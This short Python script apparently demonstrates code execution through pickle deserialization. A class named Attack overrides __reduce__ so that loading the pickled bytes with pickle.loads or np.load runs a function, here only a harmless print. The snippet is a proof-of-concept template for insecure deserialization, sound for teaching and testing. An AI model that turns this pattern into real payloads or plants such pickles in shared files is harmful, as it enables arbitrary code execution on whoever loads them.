import io
import pickle

import numpy as np


class Attack:
    def __reduce__(self):
        return print, ("your code runs here",)


body = pickle.dumps(Attack())
pickle.loads(body)
np.load(io.BytesIO(body))
